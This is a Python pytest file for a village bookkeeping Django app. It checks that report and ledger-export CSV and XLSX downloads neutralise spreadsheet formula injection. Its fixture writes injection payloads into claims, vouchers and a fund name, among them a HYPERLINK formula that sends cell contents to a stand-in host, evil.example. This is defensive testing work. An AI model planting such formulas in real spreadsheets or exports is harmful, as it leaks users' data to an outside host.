"""Text a village typed reaches county staff's spreadsheets as text, in every download: the
`report` command's CSV, the report pages' CSV and XLSX, and the whole-ledger export.

The attack of the security review: a village reporter's claim purpose becomes the summary of the
voucher the accountant books from it, and the bank journal of the township carries it to Excel.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from villagebooks.claims import services as claims
from villagebooks.ledger import services
from villagebooks.ledger.domain.vouchers import LineInput
from villagebooks.reports.ledger_export import ledger_export

HEITAN = "510781100201"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
# Voucher entry strips a summary's surrounding blanks, so a leading tab arrives as "=1" (the
# guard's own tests cover the tab and the carriage return).
ATTACKS = [HYPERLINK, "@SUM(1)", "+1", "=1", "-2+3"]
FUND = '=HYPERLINK("http://evil.example","资金")'
FUND_KIND = "earmarked_transfer"
PERIOD = {"from": "2025-03", "to": "2025-03"}


@pytest.fixture
def attacked(ledger, accountant, reviewer, make_user, settings, tmp_path):
    """A claim booked and posted, and a voucher whose summaries and fund are formulas."""
    settings.MEDIA_ROOT = tmp_path / "media"
    from django.core.files.uploadedfile import SimpleUploadedFile
    from PIL import Image

    image = io.BytesIO()
    Image.new("RGB", (24, 16), "white").save(image, format="JPEG")
    reporter = make_user("heitan", "reporter", ledger.village)
    claim = claims.claim_submit(
        actor=reporter,
        ledger=ledger,
        spent_on=date(2025, 3, 10),
        amount_fen=8650,
        purpose=HYPERLINK,
        payee="江油市文具店",
        photos=[SimpleUploadedFile("发票.jpg", image.getvalue(), content_type="image/jpeg")],
    )
    booked = claims.claim_book(actor=accountant, claim=claim, account_code="513", counter_account_code="102")
    services.voucher_submit(actor=accountant, voucher=booked)
    services.voucher_review(actor=reviewer, voucher=booked)
    services.voucher_post(actor=accountant, voucher=booked)
    services.fund_create(actor=accountant, ledger=ledger, name=FUND, kind=FUND_KIND)
    voucher = services.voucher_create(
        actor=accountant,
        ledger=ledger,
        date=date(2025, 3, 12),
        lines=[
            LineInput("@SUM(1)", "513", debit_fen=1000),
            LineInput("+1", "513", debit_fen=500),
            LineInput("\t=1", "102", credit_fen=1000),
            LineInput("-2+3", "102", credit_fen=500),
            LineInput("专项资金到账", "102", debit_fen=2000),
            LineInput("专项资金到账", "241", credit_fen=2000, fund_name=FUND),
        ],
        submit=True,
    )
    services.voucher_review(actor=reviewer, voucher=voucher)
    services.voucher_post(actor=accountant, voucher=voucher)
    return ledger


def _csv_cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row}


def _assert_guarded_csv(text: str, expected=ATTACKS) -> None:
    cells = _csv_cells(text)
    for attack in expected:
        assert "'" + attack in cells, (attack, text)
        assert attack not in cells
    # Amounts are numbers, not guarded text: the credit of 15.00 on the bank account.
    assert not {cell for cell in cells if cell.startswith("'") and cell[1:].replace(".", "").isdigit()}


def _assert_guarded_xlsx(data: bytes, expected=ATTACKS) -> None:
    sheet = load_workbook(io.BytesIO(data)).active
    texts = {}
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                texts[cell.value] = cell
    for attack in expected:
        cell = texts[attack]
        assert cell.data_type == "s" and cell.quotePrefix, attack


def _report(*args: str) -> str:
    out = io.StringIO()
    call_command("report", *args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


@pytest.mark.parametrize("kind", ["bank-journal", "detail-ledger"])
def test_the_report_commands_csv_guards_every_summary(attacked, kind):
    text = _report(
        kind,
        "--ledger",
        "HT01",
        "--from",
        "2025-03",
        "--to",
        "2025-03",
        "--account",
        "102",
        "--format",
        "csv",
    )
    _assert_guarded_csv(text, [HYPERLINK, "=1", "-2+3"])
    text = _report(
        "detail-ledger",
        "--ledger",
        "HT01",
        "--from",
        "2025-03",
        "--to",
        "2025-03",
        "--account",
        "513",
        "--format",
        "csv",
    )
    _assert_guarded_csv(text, [HYPERLINK, "@SUM(1)", "+1"])


def test_the_report_commands_xlsx_guards_every_summary(attacked, tmp_path):
    target = tmp_path / "detail.xlsx"
    args = ["--ledger", "HT01", "--from", "2025-03", "--to", "2025-03", "--account", "513"]
    _report("detail-ledger", *args, "--format", "xlsx", "--output", str(target))
    _assert_guarded_xlsx(target.read_bytes(), [HYPERLINK, "@SUM(1)", "+1"])


@pytest.mark.parametrize("kind", ["bank-journal", "detail-ledger"])
def test_the_pages_downloads_guard_every_summary(client, attacked, accountant, kind):
    client.force_login(accountant)
    for account, expected in (("102", [HYPERLINK, "=1", "-2+3"]), ("513", [HYPERLINK, "@SUM(1)", "+1"])):
        if kind == "bank-journal" and account != "102":
            continue
        response = client.get(f"/ledgers/HT01/reports/{kind}.csv", {**PERIOD, "account": account})
        assert response.status_code == 200
        _assert_guarded_csv(response.content.decode("utf-8"), expected)
        response = client.get(f"/ledgers/HT01/reports/{kind}.xlsx", {**PERIOD, "account": account})
        assert response.status_code == 200
        _assert_guarded_xlsx(response.content, expected)


def test_the_fund_summary_download_guards_a_fund_name(client, attacked, accountant):
    client.force_login(accountant)
    response = client.get("/ledgers/HT01/reports/fund-summary.csv", PERIOD)
    _assert_guarded_csv(response.content.decode("utf-8"), [FUND])
    response = client.get("/ledgers/HT01/reports/fund-summary.xlsx", PERIOD)
    _assert_guarded_xlsx(response.content, [FUND])


def test_the_whole_ledger_export_guards_its_csv_and_xlsx(attacked, accountant, tmp_path):
    target = tmp_path / "HT01.zip"
    ledger_export(actor=accountant, ledger_code="HT01", target=target)
    archive = zipfile.ZipFile(target)
    vouchers = archive.read("vouchers.csv").decode("utf-8")
    _assert_guarded_csv(vouchers, ATTACKS)
    rows = list(csv.DictReader(io.StringIO(vouchers.removeprefix("\ufeff"))))
    assert {row["credit"] for row in rows} >= {"10.00", "5.00", "86.50"}
    _assert_guarded_csv(archive.read("funds.csv").decode("utf-8"), [FUND])
    _assert_guarded_xlsx(archive.read("fund-summary-2025.xlsx"), [FUND])
